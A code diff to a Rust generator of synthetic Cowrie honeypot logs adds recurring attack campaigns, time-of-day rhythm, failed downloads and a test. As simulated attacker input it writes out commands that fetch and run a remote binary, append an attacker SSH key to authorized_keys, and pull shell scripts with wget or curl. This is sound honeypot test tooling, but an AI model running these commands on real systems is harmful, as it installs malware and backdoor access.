@@ -42,13 +42,52 @@ const URLS: &[&str] = &[
     "http://192.0.2.9:8080/mips",
 ];
 
-/// Writes `events` Cowrie JSON lines generated from `seed` to `out`.
+/// Recurring campaigns: one command script each, run from a small fixed set of sources on
+/// many days (what a campaigns query should find).
+const CAMPAIGNS: &[(&[&str], &[&str])] = &[
+    (
+        &["uname -s -v -n -r -m", "cd /tmp || cd /var/run; wget http://198.51.100.23/x86; chmod +x x86; ./x86"],
+        &["45.9.20.11", "45.9.20.12", "45.9.20.13"],
+    ),
+    (
+        &[
+            "cat /proc/cpuinfo | grep name | head -n 1",
+            "nproc",
+            "echo 'ssh-rsa AAAAB3Nza mdrfckr' >> .ssh/authorized_keys",
+        ],
+        &["103.77.1.5", "103.77.1.9"],
+    ),
+];
+
+/// Where generated time goes.
+#[derive(Debug, Clone, Copy)]
+pub struct Spread {
+    pub start: DateTime<Utc>,
+    /// Sessions are spread over this many days with a daily and weekly rhythm (busier in the
+    /// evening UTC and at weekends); campaigns recur and some downloads fail.
+    pub days: Option<u32>,
+}
+
+impl Default for Spread {
+    fn default() -> Self {
+        Self { start: Utc.with_ymd_and_hms(2025, 9, 22, 0, 0, 0).unwrap(), days: None }
+    }
+}
+
+/// Writes `events` Cowrie JSON lines generated from `seed` to `out`, starting 2025-09-22 with
+/// sessions back to back.
 pub fn generate(events: u64, seed: u64, out: &mut dyn Write) -> io::Result<()> {
+    generate_spread(events, seed, Spread::default(), out)
+}
+
+/// As `generate`, with the start and spread of time chosen.
+pub fn generate_spread(events: u64, seed: u64, spread: Spread, out: &mut dyn Write) -> io::Result<()> {
     let mut g = Gen {
         rng: ChaCha8Rng::seed_from_u64(seed),
-        t: Utc.with_ymd_and_hms(2025, 9, 22, 0, 0, 0).unwrap(),
+        t: spread.start,
         n: 0,
         limit: events,
+        rhythm: spread.days.map(|d| Rhythm::new(spread.start, d.max(1))),
     };
     let mut out = io::BufWriter::with_capacity(1 << 16, out);
     while g.n < g.limit {
@@ -62,6 +101,44 @@ struct Gen {
     t: DateTime<Utc>,
     n: u64,
     limit: u64,
+    rhythm: Option<Rhythm>,
+}
+
+/// An hourly intensity over the spread's days; a session starts at the time where the
+/// cumulative intensity reaches the share of events written so far, so the file covers the
+/// days exactly and busy hours hold more sessions.
+struct Rhythm {
+    start: DateTime<Utc>,
+    cumulative: Vec<f64>,
+}
+
+impl Rhythm {
+    fn new(start: DateTime<Utc>, days: u32) -> Self {
+        use chrono::{Datelike, Timelike};
+        let mut cumulative = Vec::with_capacity(days as usize * 24);
+        let mut total = 0.0;
+        for h in 0..days as i64 * 24 {
+            let t = start + Duration::hours(h);
+            let hour = t.hour() as f64;
+            // Peak around 20:00 UTC, trough around 08:00; weekends half as busy again.
+            let daily = 1.0 + 0.7 * ((hour - 14.0) / 24.0 * std::f64::consts::TAU).sin();
+            let weekly = if t.weekday().number_from_monday() >= 6 { 1.5 } else { 1.0 };
+            total += daily * weekly;
+            cumulative.push(total);
+        }
+        for c in &mut cumulative {
+            *c /= total;
+        }
+        Self { start, cumulative }
+    }
+
+    /// The time at which a share `p` (0..1) of the intensity has passed.
+    fn at(&self, p: f64) -> DateTime<Utc> {
+        let i = self.cumulative.partition_point(|&c| c < p).min(self.cumulative.len() - 1);
+        let lo = if i == 0 { 0.0 } else { self.cumulative[i - 1] };
+        let frac = ((p - lo) / (self.cumulative[i] - lo)).clamp(0.0, 1.0);
+        self.start + Duration::seconds(i as i64 * 3600) + Duration::milliseconds((frac * 3_600_000.0) as i64)
+    }
 }
 
 impl Gen {
@@ -97,12 +174,22 @@ impl Gen {
     }
 
     fn session(&mut self, out: &mut dyn Write) -> io::Result<()> {
+        if let Some(r) = &self.rhythm {
+            let at = r.at(self.n as f64 / self.limit as f64);
+            self.t = self.t.max(at);
+        }
+        let campaign = match self.rhythm {
+            Some(_) if self.rng.random_ratio(1, 8) => Some(CAMPAIGNS[self.rng.random_range(0..CAMPAIGNS.len())]),
+            _ => None,
+        };
         let sensor = self.pick(SENSORS);
         let compact = sensor != "920497a79896"; // that sensor writes Cowrie 1.x style
         let sid = format!("{:012x}", self.rng.random::<u64>() & 0xffff_ffff_ffff);
         // Attackers come back: sources are drawn from a pool of 400, the first ones far more often.
         let k = (self.rng.random::<f64>().powi(3) * 400.0) as u32;
-        let ip = if k % 50 == 7 {
+        let ip = if let Some((_, ips)) = campaign {
+            self.pick(ips).to_string()
+        } else if k % 50 == 7 {
             format!("2001:db8::{:x}", k + 1)
         } else {
             let h = k.wrapping_mul(2_654_435_761);
@@ -143,7 +230,7 @@ impl Gen {
                 compact,
             )?;
         }
-        if self.rng.random_ratio(3, 5) {
+        if campaign.is_some() || self.rng.random_ratio(3, 5) {
             let (u, p) = (self.pick(USERS), self.pick(PASSWORDS));
             self.emit(
                 out,
@@ -158,9 +245,14 @@ impl Gen {
                 &base,
                 compact,
             )?;
-            let cmds = self.rng.random_range(1..9);
-            for _ in 0..cmds {
-                let c = if self.rng.random_ratio(3, 20) {
+            let cmds = match campaign {
+                Some((script, _)) => script.len(),
+                None => self.rng.random_range(1..9),
+            };
+            for i in 0..cmds {
+                let c = if let Some((script, _)) = campaign {
+                    script[i].to_string()
+                } else if self.rng.random_ratio(3, 20) {
                     format!("echo {:08x}", self.rng.random::<u32>())
                 } else {
                     self.pick(COMMANDS).to_string()
@@ -185,6 +277,23 @@ impl Gen {
                     &base,
                     compact,
                 )?;
+            }
+            if self.rhythm.is_some() && self.rng.random_ratio(1, 12) {
+                // One command fetching a dead URL with both wget and curl: two failed
+                // downloads in one session.
+                let url =
+                    format!("http://203.0.113.{}/t{}.sh", self.rng.random_range(1..40), self.rng.random_range(1..5));
+                let c = format!("wget {url} || curl -O {url}");
+                self.emit(
+                    out,
+                    json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
+                    &base,
+                    compact,
+                )?;
+                for _ in 0..2 {
+                    self.emit(out, json!({"eventid": "cowrie.session.file_download.failed", "url": url,
+                        "error": "Connection refused", "message": format!("Attempt to download file(s) from URL ({url}) failed")}), &base, compact)?;
+                }
             }
             if self.rng.random_ratio(1, 50) {
                 let sha = self.sha256();
@@ -243,5 +352,30 @@ mod tests {
         for line in v.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
             crate::store::ingest::event::parse_line(line, 0).unwrap();
         }
+    }
+
+    #[test]
+    fn a_spread_covers_its_days_with_a_rhythm() {
+        use chrono::Timelike;
+        let start = Utc.with_ymd_and_hms(2025, 9, 15, 0, 0, 0).unwrap();
+        let mut v = Vec::new();
+        generate_spread(20_000, 42, Spread { start, days: Some(7) }, &mut v).unwrap();
+        let mut per_day = [0u32; 8];
+        let mut per_hour = [0u32; 24];
+        let mut failed = 0;
+        for line in v.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
+            let e: Value = serde_json::from_slice(line).unwrap();
+            let ts: DateTime<Utc> = e["timestamp"].as_str().unwrap().parse().unwrap();
+            let day = (ts - start).num_days();
+            assert!((0..8).contains(&day), "{ts} outside the week");
+            per_day[day as usize] += 1;
+            per_hour[ts.hour() as usize] += 1;
+            failed += (e["eventid"] == "cowrie.session.file_download.failed") as u32;
+        }
+        assert!(per_day[..7].iter().all(|&n| n > 1000), "every day has sessions: {per_day:?}");
+        assert!(per_day[7] < 50, "nothing much past the last day: {per_day:?}");
+        assert!(per_hour[20] > 2 * per_hour[8], "evenings are busier than mornings: {per_hour:?}");
+        assert!(per_day[5] > per_day[2], "Saturday is busier than Wednesday: {per_day:?}");
+        assert!(failed > 0);
     }
 }
